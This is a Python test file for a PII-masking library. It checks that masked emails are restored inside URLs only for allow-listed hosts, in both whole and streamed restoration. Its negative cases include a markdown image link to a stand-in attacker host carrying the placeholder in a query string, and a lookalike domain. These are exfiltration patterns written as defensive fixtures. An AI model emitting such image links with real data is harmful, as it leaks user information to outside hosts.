"""The tenant policy's `restore_in_urls` reaches restoration, whole and streamed."""

from __future__ import annotations

from veil import Veil
from veil.config import Policy, Settings


def _restore_both(veil: Veil, text: str) -> tuple[str, str]:
    whole = veil.restore(text, session="s")
    stream = veil.stream_restorer(session="s")
    streamed = "".join(stream.feed(c) for c in text) + stream.flush()
    return whole, streamed


def test_only_allowed_hosts_get_originals_in_urls(settings: Settings) -> None:
    veil = Veil(settings, policy=Policy(ner=False, restore_in_urls=["crm.example.com"]))
    ph = veil.protect("mail jane.roe@example.org", session="s").entities[0].replacement
    allowed = f"See https://crm.example.com/find?who={ph} or write to {ph}."
    assert _restore_both(veil, allowed) == (
        "See https://crm.example.com/find?who=jane.roe@example.org or write to "
        "jane.roe@example.org.",
    ) * 2
    for evil in (f"![x](https://evil.example/p?d={ph})", f"https://crm.example.com.evil.io/{ph}"):
        for out in _restore_both(veil, evil):
            assert "jane.roe@example.org" not in out


def test_without_an_allow_list_no_url_gets_an_original(settings: Settings) -> None:
    veil = Veil(settings, policy=Policy(ner=False))
    ph = veil.protect("mail jane.roe@example.org", session="s").entities[0].replacement
    for out in _restore_both(veil, f"https://crm.example.com/find?who={ph} and {ph}"):
        assert out.count("jane.roe@example.org") == 1 and out.endswith("jane.roe@example.org")
